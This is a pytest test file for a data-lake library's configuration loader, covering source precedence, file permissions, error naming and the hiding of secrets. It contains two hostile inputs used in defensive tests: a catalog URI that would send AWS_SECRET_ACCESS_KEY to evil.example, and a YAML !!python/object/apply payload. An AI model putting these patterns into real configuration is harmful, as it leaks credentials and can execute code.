"""Settings: where they come from, what goes before what, and how a wrong one is named."""

from __future__ import annotations

import grp
import os
import pickle
import pwd
import threading
from pathlib import Path

import pytest
from pydantic import ValidationError

import deltalakedb
from deltalakedb.address import parse_address
from deltalakedb.exceptions import ArgumentTypeError, ConfigError
from deltalakedb.settings import (
    Config,
    ImportConfig,
    PoolConfig,
    get_config,
    set_config,
    use_config,
)

SECRET = "hunter2"


@pytest.fixture(autouse=True)
def _clean(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in os.environ:
        if name.startswith("DELTASQL_") or name == "XDG_CONFIG_HOME":
            monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")


def refusal(**sections: object) -> str:
    with pytest.raises(ConfigError) as caught:
        Config(**sections)
    assert caught.value.suggestion
    assert caught.value.__context__ is None  # pydantic's own error keeps the input
    return str(caught.value)


# --- sources


def test_defaults_are_safe() -> None:
    config = Config()
    assert config.sqlite.synchronous == "FULL"
    assert config.publish.mode == "sync"
    assert config.publish.fsync is True
    assert config.catalog.create is True
    assert config.import_.batch_size == 49_152
    assert config.storage == {}


def test_arguments_go_before_the_environment_and_that_before_the_file(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    Path("deltasql.toml").write_text("[pool]\nmin_size = 1\nmax_size = 11\ntimeout_s = 12\nidle_s = 13\n")
    monkeypatch.setenv("DELTASQL_POOL__MAX_SIZE", "21")
    monkeypatch.setenv("DELTASQL_POOL__TIMEOUT_S", "22")
    pool = Config(pool={"max_size": 31}).pool
    assert (pool.max_size, pool.timeout_s, pool.idle_s, pool.min_size) == (31, 22, 13, 1)
    assert pool.health_check_s == PoolConfig().health_check_s


def test_a_section_object_overrides_only_what_was_set_on_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DELTASQL_POOL__TIMEOUT_S", "22")
    assert Config(pool=PoolConfig(max_size=3)).pool == PoolConfig(max_size=3, timeout_s=22)
    assert Config(import_=ImportConfig(batch_size=7)).import_.batch_size == 7
    assert Config(**{"import": {"batch_size": 8}}).import_.batch_size == 8


def test_every_kind_of_value_reads_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DELTASQL_PUBLISH__FSYNC", "false")
    monkeypatch.setenv("DELTASQL_PUBLISH__MODE", "background")
    monkeypatch.setenv("DELTASQL_POSTGRES__STATEMENT_TIMEOUT_S", "1.5")
    monkeypatch.setenv("DELTASQL_IMPORT__BATCH_SIZE", "7")
    monkeypatch.setenv("DELTASQL_STORAGE", '{"s3://b/": {"allow_http": true}}')
    monkeypatch.setenv("DELTASQL_POOL__MAX_SIZE", "")
    config = Config()
    assert (config.publish.fsync, config.publish.mode) == (False, "background")
    assert config.postgres.statement_timeout_s == 1.5
    assert config.import_.batch_size == 7
    assert config.storage_options_for("s3://b/t") == {"allow_http": "true"}
    assert config.pool.max_size == PoolConfig().max_size


def test_the_default_catalog_has_a_short_name_everywhere(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "deltasql://sqlite//srv/meta.db"
    assert Config(catalog=text).catalog.uri == parse_address(text)
    assert Config(catalog=parse_address(text)).catalog.uri == parse_address(text)
    Path("deltasql.yaml").write_text(f"catalog: {text}\n")
    assert Config().catalog.uri == parse_address(text)
    monkeypatch.setenv("DELTASQL_CATALOG", "deltasql://sqlite/other.db")
    monkeypatch.setenv("DELTASQL_CATALOG__CREATE", "no")
    assert Config().catalog.uri == parse_address("deltasql://sqlite/other.db")
    assert Config().catalog.create is False
    monkeypatch.setenv("DELTASQL_CATALOG__URI", "deltasql://sqlite/third.db")
    assert Config().catalog.uri == parse_address("deltasql://sqlite/third.db")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("conf.toml", '[pool]\nmax_size = 3\n[storage."s3://b/"]\nregion = "x"\n[import]\nbatch_size = 9\n'),
        ("conf.yaml", "pool: {max_size: 3}\nstorage:\n  s3://b/: {region: x}\nimport: {batch_size: 9}\n"),
        ("conf.yml", "pool: {max_size: 3}\nstorage:\n  s3://b/: {region: x}\nimport: {batch_size: 9}\n"),
    ],
)
def test_toml_and_yaml_say_the_same(
    name: str, text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / name
    file.write_text(text)
    monkeypatch.setenv("DELTASQL_CONFIG", str(file))
    for config in (Config.load(file), Config.load(str(file)), Config.load()):
        assert config.pool.max_size == 3
        assert config.storage_options_for("s3://b/t") == {"region": "x"}
        assert config.import_.batch_size == 9
    assert Config.load(file, pool={"max_size": 4}).pool.max_size == 4


def test_the_file_is_looked_for_here_and_then_at_home(tmp_path: Path) -> None:
    home = tmp_path / "home/.config/deltasql"
    home.mkdir(parents=True)
    (home / "config.toml").write_text("[pool]\nmax_size = 1\n")
    assert Config().pool.max_size == 1
    Path("deltasql.yaml").write_text("pool: {max_size: 2}\n")
    assert Config().pool.max_size == 2
    Path("deltasql.toml").write_text("[pool]\nmax_size = 3\n")
    assert Config().pool.max_size == 3


def test_an_empty_file_sets_nothing() -> None:
    Path("deltasql.yaml").write_text("# nothing yet\n")
    assert Config().pool == PoolConfig()


# --- files in the current folder, which may be anybody's


def test_a_file_in_the_current_folder_that_others_can_change_is_not_read() -> None:
    file = Path("deltasql.toml")
    for name in ("deltasql.toml", "deltasql.yaml", "deltasql.yml"):
        file = Path(name)
        file.write_text("")
        for mode in (0o646, 0o642, 0o666):
            file.chmod(mode)
            message = refusal()
            assert f"{file.absolute()} can be changed by other users" in message
            assert f"chmod go-w {name}" in message
        file.chmod(0o644)
        Config()
        file.unlink()


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to a group of others")
def test_a_file_that_a_group_of_others_can_change_is_not_read() -> None:
    file = Path("deltasql.toml")
    file.write_text("")
    others = next(
        g.gr_gid for g in grp.getgrall() if g.gr_gid in {u.pw_gid for u in pwd.getpwall() if u.pw_uid}
    )
    for gid in (others, 2_000_000_011):  # the second is the number of no group
        os.chown(file, -1, gid)
        for mode in (0o664, 0o620):
            file.chmod(mode)
            assert "can be changed by other users" in refusal()


def _group_of_one() -> bool:
    me = pwd.getpwuid(os.geteuid())
    same = [u.pw_name for u in pwd.getpwall() if u.pw_gid == me.pw_gid]
    return same == [me.pw_name] and set(grp.getgrgid(me.pw_gid).gr_mem) <= {me.pw_name}


@pytest.mark.skipif(not _group_of_one(), reason="this user's group has other members")
def test_a_file_that_ones_own_group_of_one_can_change_is_read() -> None:
    file = Path("deltasql.toml")
    file.write_text("[pool]\nmax_size = 3\n")
    os.chown(file, -1, pwd.getpwuid(os.geteuid()).pw_gid)
    file.chmod(0o664)  # as with the umask 002 that goes with such groups
    assert Config().pool.max_size == 3


def test_a_file_in_a_folder_that_everybody_can_change_is_not_read(tmp_path: Path) -> None:
    Path("deltasql.toml").write_text("[pool]\nmax_size = 3\n")
    here = tmp_path / "here"
    here.chmod(0o777)
    assert "every user can change" in refusal()
    here.chmod(0o1777)  # others can add files, but not replace this one
    assert Config().pool.max_size == 3
    here.chmod(0o755)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")
def test_a_file_or_link_of_another_user_is_not_read(tmp_path: Path) -> None:
    file = Path("deltasql.toml")
    file.write_text("[pool]\nmax_size = 3\n")
    os.chown(file, 12345, -1)
    assert "belongs to another user" in refusal()
    os.chown(file, 0, -1)
    os.chown(tmp_path / "here", 12345, -1)
    assert "folder of another user" in refusal()
    os.chown(tmp_path / "here", 0, -1)
    file.rename("mine.toml")
    file.symlink_to("mine.toml")
    assert Config().pool.max_size == 3
    os.chown(file, 12345, -1, follow_symlinks=False)
    assert "belongs to another user" in refusal()


def test_a_file_in_the_current_folder_cannot_send_variables_away(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    uri = "deltasql://postgres/u:${AWS_SECRET_ACCESS_KEY}@evil.example/lake/meta"
    forms = {
        "deltasql.toml": (f'catalog = "{uri}"\n', f'[catalog]\nuri = "{uri}"\n'),
        "deltasql.yaml": (f"catalog: {uri}\n", f"catalog:\n  uri: {uri}\n"),
    }
    for name, texts in forms.items():
        for text in texts:
            Path(name).write_text(text)
            message = refusal()
            assert f"{name}: catalog.uri refers to an environment variable" in message
            assert f"--config {name}" in message
            assert SECRET not in message
            # whoever names the file means it
            assert Config.load(name).catalog.uri == parse_address(uri)
            with monkeypatch.context() as context:
                context.setenv("DELTASQL_CONFIG", name)
                assert Config().catalog.uri == parse_address(uri)
        Path(name).unlink()
    home = tmp_path / "home/.config/deltasql"
    home.mkdir(parents=True)
    (home / "config.toml").write_text(f'catalog = "{uri}"\n')
    assert Config().catalog.uri == parse_address(uri)


# --- wrong settings


def test_a_wrong_variable_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DELTASQL_POOL__MAX_SIZE", "many")
    assert "DELTASQL_POOL__MAX_SIZE" in refusal()
    assert "'many'" in refusal()


def test_a_wrong_value_in_a_file_is_named_by_file_and_key() -> None:
    Path("deltasql.toml").write_text('[pool]\nmax_size = 0\n[publish]\nmode = "never"\n')
    message = refusal()
    assert "deltasql.toml: pool.max_size" in message
    assert "deltasql.toml: publish.mode" in message


def test_the_source_that_set_the_value_is_blamed(monkeypatch: pytest.MonkeyPatch) -> None:
    Path("deltasql.toml").write_text("[pool]\nmax_size = 4\n")
    monkeypatch.setenv("DELTASQL_POOL__MAX_SIZE", "0")
    assert "DELTASQL_POOL__MAX_SIZE" in refusal()
    assert "argument: pool.max_size" in refusal(pool={"max_size": -1})


def test_an_unknown_key_is_answered_with_the_nearest(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "did you mean max_size?" in refusal(pool={"maxsize": 1})
    assert "did you mean postgres?" in refusal(postgresql={})
    assert "[cache] has snapshot_bytes" in refusal(cache={"q": 1})
    monkeypatch.setenv("DELTASQL_POOL__MAXSIZE", "1")
    assert "DELTASQL_POOL__MAXSIZE: unknown setting" in refusal()


@pytest.mark.parametrize(
    ("name", "right"),
    [
        ("DELTASQL_POOL_MAX_SIZE", "DELTASQL_POOL__MAX_SIZE"),
        ("DELTASQL_POOLS__MAX_SIZE", "pool"),
        ("DELTASQL_POOL", "DELTASQL_POOL__KEY"),
    ],
)
def test_a_misspelt_variable_is_not_ignored(name: str, right: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(name, "1")
    with pytest.raises(ConfigError, match=name) as caught:
        Config()
    assert right in str(caught.value.suggestion)


def test_variables_that_are_no_settings_are_left_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DELTASQL_SOMETHING_ELSE", "1")
    assert Config().pool == PoolConfig()


@pytest.mark.parametrize(
    ("name", "text", "fault"),
    [
        ("c.toml", "[pool]\nmax_size = = 3\n", "line 2"),
        ("c.yaml", "pool:\n  max_size: [3\n", "line 3"),
        ("c.yaml", "pool: !!python/object/apply:os.getcwd []\n", "line 1"),
        ("c.yaml", "- pool\n", "has no sections"),
        ("c.ini", "[pool]\n", "neither TOML nor YAML"),
        ("c.toml", "pool = 3\n", "pool"),
        ("c.toml", "[pool]\nmin_size = 9\n", "min_size is greater"),
    ],
)
def test_a_broken_file_is_named_with_its_line(name: str, text: str, fault: str, tmp_path: Path) -> None:
    (tmp_path / name).write_text(text)
    with pytest.raises(ConfigError, match=fault) as caught:
        Config.load(tmp_path / name)
    assert name in str(caught.value)


def test_a_file_that_cannot_be_read_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "latin.toml").write_bytes(b"# \xe9\n")
    for file, fault in [("gone.toml", "cannot be read"), ("latin.toml", "not UTF-8"), ("", "cannot be read")]:
        with pytest.raises(ConfigError, match=fault):
            Config.load(tmp_path / file)
    monkeypatch.setenv("DELTASQL_CONFIG", str(tmp_path / "gone.toml"))
    with pytest.raises(ConfigError, match=r"DELTASQL_CONFIG: .*gone\.toml"):
        Config()


def test_a_wrong_address_is_named_by_its_place(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "argument: catalog.uri" in refusal(catalog="deltasql://mysql/x")
    assert "leave the table out" in refusal(catalog="deltasql://sqlite//x.db?table=t")
    monkeypatch.setenv("DELTASQL_CATALOG", "deltasql://mysql/x")
    assert "DELTASQL_CATALOG: the engine must be" in refusal()


@pytest.mark.parametrize("text", ["{", "[]", "7", '"x"'])
def test_storage_in_the_environment_is_a_json_object(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DELTASQL_STORAGE", text)
    with pytest.raises(ConfigError, match="DELTASQL_STORAGE"):
        Config()


# --- storage options


def test_the_longest_prefix_gives_the_storage_options() -> None:
    config = Config(
        storage={"s3://": {"k": "1"}, "s3://b": {"k": "2"}, "s3://b/sub/": {"k": "3"}, "/": {"k": "4"}}
    )
    assert config.storage_options_for("s3://a/t") == {"k": "1"}
    assert config.storage_options_for("s3://b/t") == {"k": "2"}
    assert config.storage_options_for("s3://bb/t") == {"k": "1"}
    assert config.storage_options_for("s3://b/sub/t") == {"k": "3"}
    assert config.storage_options_for("s3://b/subway") == {"k": "2"}
    assert config.storage_options_for("/data/t") == {"k": "4"}
    assert config.storage_options_for("gs://b/t") is None


def test_explicit_storage_options_replace_the_configured_ones() -> None:
    config = Config(storage={"s3://b": {"region": "x", "k": "1"}})
    assert config.storage_options_for("s3://b/t", {"k": "2"}) == {"k": "2"}
    assert config.storage_options_for("s3://b/t", {}) == {}


# --- secrets


def test_no_secret_is_shown(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DELTASQL_CATALOG", f"deltasql://postgres/ada:{SECRET}@db/lake/meta")
    config = Config(storage={"s3://b": {"aws_secret_access_key": SECRET}})
    shown = [repr(config), str(config), repr(config.describe()), repr(config._sources), repr(config.catalog)]
    assert not any(SECRET in text for text in shown)
    assert config.storage_options_for("s3://b/t") == {"aws_secret_access_key": SECRET}
    assert pickle.loads(pickle.dumps(config)).storage_options_for("s3://b/t") == {
        "aws_secret_access_key": SECRET
    }


@pytest.mark.parametrize(
    "sections",
    [
        {"storage": {"s3://b": {"key": [SECRET]}}},
        {"storage": {"s3://b": SECRET}},
        {"storage": SECRET},
        {"catalog": f"deltasql://postgres/u:{SECRET}/x@db/lake/meta"},
        {"catalog": {"uri": [SECRET]}},
        {"catalog": {"password": SECRET}},
        {"password": SECRET},
        {"service": {"token": [SECRET]}},
        {"service": {"token_file": {"is": SECRET}}},
        {"service": SECRET},
        {"pool": {"max_size": f"postgresql://u:{SECRET}@db"}},
    ],
)
def test_no_secret_is_in_an_error(sections: dict[str, object]) -> None:
    assert SECRET not in refusal(**sections)


@pytest.mark.parametrize("number", [8675309867530986, 86753.09867530986, -8675309])
@pytest.mark.parametrize("place", ["service.token", "service.token_file", "catalog.uri", "storage.s3://b"])
def test_no_secret_of_digits_is_in_an_error(
    place: str, number: float, monkeypatch: pytest.MonkeyPatch
) -> None:
    section, _, key = place.partition(".")
    assert "8675" not in refusal(**{section: {key: number}})
    Path("deltasql.toml").write_text(f'[{section}]\n"{key}" = {number}\n')
    assert "8675" not in refusal()
    assert "8675" not in refusal(**{section: number})


def test_no_line_of_a_broken_file_is_quoted() -> None:
    for name in ("deltasql.yaml", "deltasql.toml"):
        Path(name).write_text(f"storage:\n  s3://b: {{key: {SECRET}\n")
        assert SECRET not in refusal()


# --- describe, get, set, use


def test_describe_tells_each_value_and_its_origin(monkeypatch: pytest.MonkeyPatch) -> None:
    Path("deltasql.toml").write_text('[duckdb]\nthreads = 2\n[storage."s3://b"]\nregion = "x"\n')
    monkeypatch.setenv("DELTASQL_CATALOG", "deltasql://sqlite/x.db")
    monkeypatch.setenv("DELTASQL_POOL__IDLE_S", "7")
    told = {s.name: s for s in Config(publish={"fsync": False}).describe()}
    assert (told["catalog.uri"].value, told["catalog.uri"].origin) == (
        "deltasql://sqlite/x.db",
        "DELTASQL_CATALOG",
    )
    assert (told["pool.idle_s"].value, told["pool.idle_s"].origin) == ("7.0", "DELTASQL_POOL__IDLE_S")
    assert (told["duckdb.threads"].value, told["duckdb.threads"].origin) == ("2", "deltasql.toml")
    assert (told["publish.fsync"].value, told["publish.fsync"].origin) == ("false", "argument")
    assert (told["pool.max_size"].value, told["pool.max_size"].origin) == ("8", "default")
    assert (told["storage.s3://b.region"].value, told["storage.s3://b.region"].origin) == (
        "***",
        "deltasql.toml",
    )
    assert told["import.batch_size"].variable == "DELTASQL_IMPORT__BATCH_SIZE"
    assert all(s.help for s in told.values())


def test_every_described_variable_sets_its_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    before = [s for s in Config().describe() if s.value]
    for setting in before:
        monkeypatch.setenv(setting.variable, setting.value)
    after = {s.name: s for s in Config().describe()}
    for setting in before:
        assert (after[setting.name].value, after[setting.name].origin) == (setting.value, setting.variable)


def test_a_config_cannot_be_changed() -> None:
    with pytest.raises(ValidationError):
        Config().pool.max_size = 3


def test_use_config_holds_inside_its_block_and_thread_only() -> None:
    process, block = Config(pool={"max_size": 2}), Config(pool={"max_size": 3})
    seen: list[int] = []
    set_config(process)
    try:
        with use_config(block):
            assert get_config() is block
            thread = threading.Thread(target=lambda: seen.append(get_config().pool.max_size))
            thread.start()
            thread.join()
        assert get_config() is process
        assert seen == [2]
    finally:
        set_config(None)


def test_the_process_config_is_loaded_once_and_again_on_request(monkeypatch: pytest.MonkeyPatch) -> None:
    set_config(None)
    try:
        first = get_config()
        monkeypatch.setenv("DELTASQL_POOL__MAX_SIZE", "3")
        assert get_config() is first
        set_config(None)
        assert get_config().pool.max_size == 3
    finally:
        set_config(None)


def test_equal_settings_have_one_fingerprint(monkeypatch: pytest.MonkeyPatch) -> None:
    plain = Config().fingerprint()
    assert Config(catalog="deltasql://sqlite/x.db").fingerprint() == plain
    stored = Config(storage={"s3://b": {"k": SECRET}}).fingerprint()
    assert stored not in (plain, Config(storage={"s3://b": {"k": "another"}}).fingerprint())
    assert SECRET not in stored
    changed = Config(pool={"max_size": 3}).fingerprint()
    monkeypatch.setenv("DELTASQL_POOL__MAX_SIZE", "3")
    assert Config().fingerprint() == changed != plain


def test_settings_of_a_catalog_may_be_a_dict(tmp_path: Path) -> None:
    assert deltalakedb.Config is Config
    uri = f"deltasql://sqlite/{tmp_path}/meta.db"
    for given, size in (({}, Config().pool.max_size), ({"pool": {"max_size": 2}}, 2)):
        with deltalakedb.Catalog(uri, config=given) as catalog:
            assert catalog._config.pool.max_size == size
    with pytest.raises(ConfigError, match="colour"):
        deltalakedb.Catalog(uri, config={"colour": "red"})
    with pytest.raises(ArgumentTypeError, match="list"):
        deltalakedb.Catalog(uri, config=[])  # type: ignore[arg-type]
